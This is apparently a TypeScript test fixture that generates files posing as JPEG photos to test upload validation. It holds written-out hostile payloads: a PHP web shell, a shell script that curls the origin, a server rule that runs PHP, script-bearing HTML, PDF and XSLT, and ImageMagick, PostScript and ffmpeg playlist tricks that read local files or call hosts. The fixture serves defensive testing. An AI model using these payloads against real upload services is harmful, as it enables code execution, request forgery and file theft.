import { gzipSync } from 'node:zlib'
import { box } from './containers.ts'
import { latin, mark, script, type HostileFile } from './hostileFile.ts'

const film = (brand: string, ...boxes: readonly Buffer[]): Buffer =>
  Buffer.concat([box('ftyp', latin(brand), Buffer.alloc(4), latin(brand)), ...boxes])
const place = box('udta', box('\u00a9xyz', latin(`\u0000\u0012\u0015\u00c7+51.5007-000.1246/${mark}`)))
const movie = box('moov', box('mvhd', Buffer.alloc(100)), place)

/** Returns files that claim to be JPEG photos but aren't. `origin` counts its requests; `file` is a file on this machine. */
export function impostors(origin: string, file: string): HostileFile[] {
  const page = `<!doctype html><html><body>${script}</body></html>`
  const playlist = `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n`
  const bytes: [string, Buffer | string][] = [
    ['a page', page],
    ['a page behind spaces', `\n\n   ${page}`],
    ['a script', `alert('${mark}')`],
    ['a page in XML', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`],
    ['a page that is transformed', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${origin}/x"?><a/>`],
    ['a page in parts', `MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n${page}`],
    ['PHP', `<?php system($_GET['c']); // ${mark}`],
    ['a shell script', `#!/bin/sh\ncurl ${origin}/shell\n`],
    ['rules of a web server', 'AddType application/x-httpd-php .webp\n'],
    ['a document', latin(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert('${mark}'))>>>>endobj`)],
    ['an archive', latin(`PK\u0003\u0004\u0014\u0000${mark}`)],
    ['packed', gzipSync(page)],
    ['a program of Windows', latin(`MZ\u0090\u0000${mark}`)],
    ['a program of Linux', latin(`\u007fELF\u0002\u0001\u0001${mark}`)],
    ['a program of browsers', latin(`\u0000asm\u0001\u0000\u0000\u0000${mark}`)],
    ['a Flash film', latin(`CWS\u000a${mark}`)],
    ['orders of ImageMagick', `push graphic-context\nviewbox 0 0 300 300\nimage over 0,0 0,0 'url(${origin}/mvg)'\n`],
    ['a script of ImageMagick', `<?xml version="1.0"?><image><read filename="${file}"/></image>`],
    ['PostScript', `%!PS-Adobe-3.0 EPSF-3.0\n(${file}) (r) file\n`],
    ['a TIFF', latin(`II*\u0000\u0008\u0000\u0000\u0000${mark}`)],
    ['a BMP', latin(`BM${'\u0000'.repeat(12)}${mark}`)],
    ['a HEIC photo', film('heic', box('meta', latin(mark)))],
    ['a film with its place', film('isom', movie, box('mdat', Buffer.alloc(64)))],
    ['a QuickTime film with its place', film('qt  ', movie)],
    ['a film in fragments', film('iso5', box('moof', Buffer.alloc(32)), box('mdat', latin(page)))],
    ['a film with a page', film('mp42', box('free', latin(page)))],
    ['a film that calls itself a picture', film('avif', movie)],
    ['a playlist of this machine', `${playlist}${origin}/segment.ts\n#EXT-X-ENDLIST\n`],
    ['a playlist of this disk', `${playlist}file://${file}\n#EXT-X-ENDLIST\n`],
    ['a list of films', `ffconcat version 1.0\nfile 'file://${file}'\nfile '${origin}/concat'\n`],
    ['nothing', ''],
    ['a byte', 'G'],
    ['the beginning of a name', '\u0089PN'],
  ]
  return bytes.map(([what, content]) => ({
    what: `${what}, named as a photo`,
    content: typeof content === 'string' ? Buffer.from(content) : content,
    name: 'photo.jpg',
    type: 'image/jpeg',
  }))
}
